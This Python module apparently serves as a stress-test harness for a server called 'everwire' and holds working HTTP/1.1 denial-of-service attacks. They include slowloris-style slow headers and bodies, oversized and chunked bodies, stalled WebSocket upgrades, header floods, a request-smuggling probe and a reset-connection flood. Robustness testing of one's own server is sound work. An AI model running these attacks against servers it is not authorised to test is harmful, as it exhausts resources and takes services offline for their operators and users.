"""Requests and connections of HTTP/1.1."""
import asyncio
import os
import random
import socket
import struct

from target import Victim, attack, over_and_over

HEAD = b"Host: a\r\nContent-Type: text/plain\r\n"
UPGRADE = (b"GET /everwire/websocket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
           b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")


@attack
async def silence(target, sockets):
    """Connected, and not a byte."""
    await over_and_over(target, sockets, Victim.until_the_end)


@attack
async def slow_heads(target, sockets):
    async def one(victim):
        await victim.drip(b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 1000)
    await over_and_over(target, sockets, one)


@attack
async def slow_bodies(target, sockets):
    async def one(victim):
        await victim.send(b"POST /everwire/long_polling HTTP/1.1\r\n" + HEAD + b"Content-Length: 1000\r\n\r\n")
        await victim.drip(b"x" * 1000)
    await over_and_over(target, sockets, one)


@attack
async def huge_bodies(target, sockets):
    async def one(victim):
        length = random.choice([b"Content-Length: 1000000000000000", b"Transfer-Encoding: chunked"])
        await victim.send(b"POST /everwire/send HTTP/1.1\r\n" + HEAD + length + b"\r\n\r\n")
        chunk = b"10000\r\n" + b"x" * 65536 + b"\r\n"
        for _ in range(64):
            await victim.send(chunk)
        await victim.status()
    await over_and_over(target, sockets, one)


@attack
async def upgrades_never_finished(target, sockets):
    async def one(victim):
        await victim.send(UPGRADE)
        await victim.status()
        await victim.drip(b"\x81\xfe\x03\xe8abcd" + b"x" * 1000)
    await over_and_over(target, sockets, one)


@attack
async def answers_never_read(target, sockets):
    requests = b"GET /client/everwire.js HTTP/1.1\r\nHost: a\r\n\r\n" * 100
    async def one(victim):
        victim.writer.write(requests)
        await victim.unread()
    await over_and_over(target, sockets, one, receive=4096)


@attack
async def bytes_one_by_one(target, sockets):
    async def one(victim):
        while True:
            await victim.drip(b"GET /stats HTTP/1.1\r\n" + HEAD + b"\r\n", 0)
            await victim.answer()
    await over_and_over(target, sockets, one)


@attack
async def many_headers(target, sockets):
    async def one(victim):
        await victim.send(b"GET / HTTP/1.1\r\nHost: a\r\n" + b"X: x\r\n" * 2000 + b"\r\n")
        await victim.status()
    await over_and_over(target, sockets, one)


@attack
async def garbage_behind_a_request(target, sockets):
    async def one(victim):
        await victim.send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" + os.urandom(2000))
        await victim.until_the_end()
    await over_and_over(target, sockets, one)


@attack
async def two_lengths(target, sockets):
    async def one(victim):
        await victim.send(b"POST /everwire/send HTTP/1.1\r\n" + HEAD + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
                          b"0\r\n\r\nGET /stats HTTP/1.1\r\nHost: a\r\n\r\n")
        assert await victim.status() == "400"
    await over_and_over(target, sockets, one)


@attack
async def connections_at_once(target, sockets):
    """Made and reset, as fast as it goes; over TLS before its first byte."""
    linger = struct.pack("ii", 1, 0)
    async def go():
        while target.on:
            try:
                victim = await target.connect(raw=True)
                victim.writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
                victim.writer.write(b"GET / HTTP/1.1\r\nHo")
                victim.abort()
            except OSError:
                await asyncio.sleep(0.01)
    await asyncio.gather(*(go() for _ in range(sockets)))
